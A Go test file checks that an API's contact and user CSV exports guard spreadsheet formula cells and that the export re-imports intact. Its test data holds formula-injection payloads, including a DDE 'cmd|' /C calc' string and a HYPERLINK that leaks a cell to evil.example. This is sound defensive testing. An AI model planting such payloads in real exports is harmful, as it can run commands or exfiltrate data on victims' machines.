package api

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
)

func TestCSVCellGuard(t *testing.T) {
	for _, tc := range []struct{ in, out string }{
		{"", ""},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+14155552671", "'+14155552671"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'", "'"},
		{"'a", "'a"},
		{"'=x", "''=x"}, // would lose its apostrophe on import otherwise
		{"''", "'''"},
	} {
		if got := csvCell(tc.in); got != tc.out {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.out)
		}
		if back := csvValue(csvCell(tc.in)); back != tc.in {
			t.Errorf("%q does not round-trip: back as %q", tc.in, back)
		}
	}
	// Imports keep an apostrophe that guards nothing.
	for _, in := range []string{"'a", "'", "O'Brien"} {
		if got := csvValue(in); got != in {
			t.Errorf("csvValue(%q) = %q", in, got)
		}
	}
}

// exportedCells fails the test when a cell of body begins the way a
// spreadsheet formula does.
func exportedCells(t *testing.T, body []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, body)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && formulaStart(cell[0]) {
				t.Errorf("exported cell %q starts like a formula", cell)
			}
		}
	}
	return recs
}

// Contact and user exports guard formula cells; importing the export gives
// the values back, phone numbers included.
func TestCSVExportGuardsFormulas(t *testing.T) {
	e := newEnv(t)
	g := e.createGroup(e.admin, "g")
	want := map[string]string{
		"first_name": `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"last_name":  "@SUM(1+1)",
		"custom1":    "-2+3+cmd|' /C calc'!A0",
		"custom2":    "'=kept as typed",
		"custom3":    "+tag",
		"phone":      "+14155552671",
	}
	body := map[string]any{}
	for k, v := range want {
		body[k] = v
	}
	id := e.createContact(e.admin, body)
	e.expect(e.do("PUT", fmt.Sprintf("%s/link/%d", contactPath(id), g), e.admin, nil), 200)
	r := e.expect(e.do("GET", groupPath(g)+"/csv", e.admin, nil), 200)
	recs := exportedCells(t, r.Body)
	if len(recs) != 2 {
		t.Fatalf("export:\n%s", r.Body)
	}

	// Gone and imported back from its own export, the contact is as it was.
	e.expect(e.do("DELETE", contactPath(id), e.admin, nil), 200)
	res := e.importCSV(e.admin, g, "", r.Body, "text/csv", 200)
	if res.Imported != 1 || res.Failed != 0 {
		t.Fatalf("re-import of the export: %+v", res)
	}
	var list []map[string]any
	e.expect(e.do("GET", "/contacts", e.admin, nil), 200).json(t, &list)
	if len(list) != 1 {
		t.Fatalf("contacts after re-import: %v", list)
	}
	for k, v := range want {
		if list[0][k] != v {
			t.Errorf("%s came back as %q, want %q", k, list[0][k], v)
		}
	}

	e.createUser("mallory", map[string]any{"first_name": "=cmd|'/C calc'!A0", "last_name": "@x", "phone": "+14155550100"})
	r = e.expect(e.do("GET", "/users/csv", e.admin, nil), 200)
	if recs := exportedCells(t, r.Body); len(recs) != 3 {
		t.Errorf("users export:\n%s", r.Body)
	}
	// A users import takes the guard off too (but never off a password).
	imp := "username,passwd,first_name,phone\nzed,'=password-zed,'=Zed,'+14155550101\n"
	e.expect(e.do("POST", "/users/csv", e.admin, imp, "Content-Type", "text/csv"), 200)
	e.login("zed", "'=password-zed")
	var users []map[string]any
	e.expect(e.do("GET", "/users?username=zed", e.admin, nil), 200).json(t, &users)
	if len(users) != 1 || users[0]["first_name"] != "=Zed" || !strings.HasSuffix(fmt.Sprint(users[0]["phone"]), "4155550101") {
		t.Errorf("imported user %v", users)
	}
}
